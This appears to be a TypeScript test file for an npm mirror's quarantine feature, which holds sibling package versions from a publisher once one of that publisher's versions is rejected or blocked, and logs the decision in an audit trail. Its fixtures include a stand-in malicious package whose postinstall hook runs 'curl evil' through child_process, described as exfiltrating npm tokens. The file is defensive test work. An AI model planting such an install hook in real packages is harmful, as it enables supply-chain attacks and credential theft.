import { test } from 'node:test';
import assert from 'node:assert/strict';
import { cascadeHolds, type CascadeSettings } from '../../server/policy/cascade';
import type { VersionRecord, VersionState } from '../../server/policy/version-state';
import { DAY, HOUR, NOW, sightAndAnalyse, startApprovalMirror } from '../approvals/approval-mirror';
import { testApprover } from '../approvals/keys';
import { visibleVersions } from '../helpers/mirror';
import { CASCADE_RULE } from '../../server/quarantine/cascade-service';

const settings: CascadeSettings = { windowMs: 48 * HOUR, recall: false, recallMs: 7 * DAY };

const rec = (
  pkg: string,
  version: string,
  state: VersionState,
  publishedAt: number,
  publisher = 'mallory',
  updatedAt = publishedAt,
): VersionRecord => ({
  package: pkg,
  version,
  state,
  publishedAt,
  firstSeenAt: publishedAt,
  integrity: 'sha512-x',
  tarball: null,
  tarballUrl: null,
  blob: null,
  reason: '',
  updatedAt,
  analysis: 'clean',
  maxSeverity: null,
  findingsDigest: null,
  publisher,
});

test('which siblings a cascade holds', () => {
  const cause = { package: 'a', version: '1.0.1', publisher: 'mallory', publishedAt: NOW, what: 'rejected by alice', auditId: 7 };
  const candidates = [
    rec('a', '1.0.1', 'rejected', NOW),
    rec('b', '2.0.1', 'quarantined', NOW + 3 * 60_000),
    rec('c', '3.0.1', 'quarantined', NOW - 47 * HOUR),
    rec('d', '4.0.1', 'quarantined', NOW - 49 * HOUR),
    rec('e', '5.0.1', 'quarantined', NOW, 'someone-else'),
    rec('f', '6.0.1', 'released', NOW - HOUR, 'mallory', NOW - 2 * DAY),
    rec('g', '7.0.1', 'released', NOW - HOUR, 'mallory', NOW - 8 * DAY),
    rec('h', '8.0.1', 'approved', NOW - HOUR),
    rec('i', '9.0.1', 'held', NOW),
  ];
  const held = (s: CascadeSettings) => cascadeHolds(cause, candidates, s, NOW).map((h) => h.record.package);
  assert.deepEqual(held(settings), ['b', 'c'], 'waiting siblings within ±48 h of the same publisher');
  assert.deepEqual(
    held({ ...settings, recall: true }),
    ['b', 'c', 'f'],
    'recall: released within 7 days too, never what a person approved',
  );
  assert.deepEqual(cascadeHolds({ ...cause, publisher: null }, candidates, settings, NOW), [], 'no publisher, no cascade');
  assert.match(
    cascadeHolds(cause, candidates, settings, NOW)[0]!.reason,
    /a@1\.0\.1, published by the same account \(mallory\) 3 min before it, was rejected by alice/,
  );
});

test('a signed rejection holds the siblings its publisher published around it, with a finding and the decision in the audit log', async () => {
  const alice = testApprover('alice');
  const m = await startApprovalMirror([alice], { cascade: { window: '48h', recall: true } });
  try {
    const by = (name: string) => ({ manifest: { _npmUser: { name } } });
    m.upstream.publish('worm-a', '1.0.0', { time: NOW - 30 * DAY });
    m.upstream.publish('worm-a', '1.0.1', {
      time: NOW - HOUR,
      scripts: { postinstall: 'node x.js' },
      files: { 'x.js': 'require("child_process").exec("curl evil")' },
      ...by('mallory'),
    });
    for (const name of ['worm-b', 'worm-c', 'far-away', 'other-publisher', 'recent-release'])
      m.upstream.publish(name, '1.0.0', { time: NOW - 30 * DAY });
    m.upstream.publish('worm-b', '2.0.1', { time: NOW - HOUR + 60_000, ...by('mallory') });
    m.upstream.publish('worm-c', '3.0.1', { time: NOW - HOUR + 120_000, ...by('mallory') });
    m.upstream.publish('far-away', '1.0.1', { time: NOW - 50 * HOUR, ...by('mallory') });
    m.upstream.publish('other-publisher', '1.0.1', { time: NOW - HOUR, ...by('bob') });
    for (const name of ['worm-a', 'worm-b', 'worm-c', 'far-away', 'other-publisher']) await sightAndAnalyse(m, name);
    const store = m.mirror.runtime.store;
    assert.equal((await store.versions.versionOf('worm-a', '1.0.1'))?.state, 'held');
    assert.equal((await store.versions.versionOf('worm-b', '2.0.1'))?.state, 'quarantined');

    const { text } = await m.mirror.runtime.approvals.statementFor(
      'worm-a',
      '1.0.1',
      'reject',
      'exfiltrates npm tokens',
      alice.approver.publicKey,
    );
    const outcome = await m.mirror.runtime.approvals.submit('worm-a', '1.0.1', text, alice.sign(text));
    assert.equal(outcome.transition?.to, 'rejected');

    for (const [name, version] of [
      ['worm-b', '2.0.1'],
      ['worm-c', '3.0.1'],
    ] as const) {
      const record = (await store.versions.versionOf(name, version))!;
      assert.equal(record.state, 'held', name);
      assert.match(
        record.reason,
        /worm-a@1\.0\.1, published by the same account \(mallory\) .* was rejected by alice \(exfiltrates npm tokens\)/,
      );
      const status = (await (await fetch(`${m.mirror.url}-/cordon/api/v1/packages/${name}`)).json()) as {
        versions: Array<{ version: string; findings: Array<{ rule: string; severity: string }> }>;
      };
      assert.ok(
        status.versions.find((v) => v.version === version)!.findings.some((f) => f.rule === CASCADE_RULE && f.severity === 'high'),
        name,
      );
      const entry = (await store.audit.ofPackage(name)).find((e) => e.cause === 'cascade-held');
      assert.ok(entry, `${name} has a cascade-held audit entry`);
      assert.equal(
        (entry.detail?.causedBy as { auditId: number } | undefined)?.auditId,
        outcome.decision.auditId,
        'the audit entry names the causing decision',
      );
    }
    assert.equal((await store.versions.versionOf('far-away', '1.0.1'))?.state, 'quarantined', 'outside the window');
    assert.equal((await store.versions.versionOf('other-publisher', '1.0.1'))?.state, 'quarantined', 'another publisher');
    m.clock.advance(10 * DAY);
    assert.deepEqual(await visibleVersions(`${m.mirror.url}worm-b`), ['1.0.0'], 'time does not release a cascaded hold');
  } finally {
    await m.stop();
  }
});

test('a version blocked for changed bytes cascades too; with recall, a sibling released in the last days is held again', async () => {
  const m = await startApprovalMirror([testApprover('alice')], { cascade: { recall: true } });
  try {
    const by = { manifest: { _npmUser: { name: 'mallory' } } };
    m.upstream.publish('swap-a', '1.0.0', { time: NOW - 30 * DAY });
    m.upstream.publish('swap-a', '1.0.1', { time: NOW - 3 * HOUR, ...by });
    m.upstream.publish('sib', '1.0.0', { time: NOW - 30 * DAY });
    m.upstream.publish('sib', '1.0.1', { time: NOW - 2 * HOUR, ...by });
    await sightAndAnalyse(m, 'swap-a');
    await sightAndAnalyse(m, 'sib');
    m.clock.advance(3 * DAY);
    await m.mirror.sweeper.runNow();
    assert.equal((await m.mirror.runtime.store.versions.versionOf('sib', '1.0.1'))?.state, 'released');
    // Upstream now describes other bytes for swap-a@1.0.1.
    m.upstream.publish('swap-a', '1.0.1', { time: NOW - 3 * HOUR, files: { 'index.js': 'evil()' }, ...by });
    await m.mirror.sweeper.runNow();
    assert.equal((await m.mirror.runtime.store.versions.versionOf('swap-a', '1.0.1'))?.state, 'blocked');
    const sib = (await m.mirror.runtime.store.versions.versionOf('sib', '1.0.1'))!;
    assert.equal(sib.state, 'held');
    assert.match(sib.reason, /blocked because upstream changed its bytes.*held again \(cascade recall\)/);
    assert.deepEqual(await visibleVersions(`${m.mirror.url}sib`), ['1.0.0']);
  } finally {
    await m.stop();
  }
});
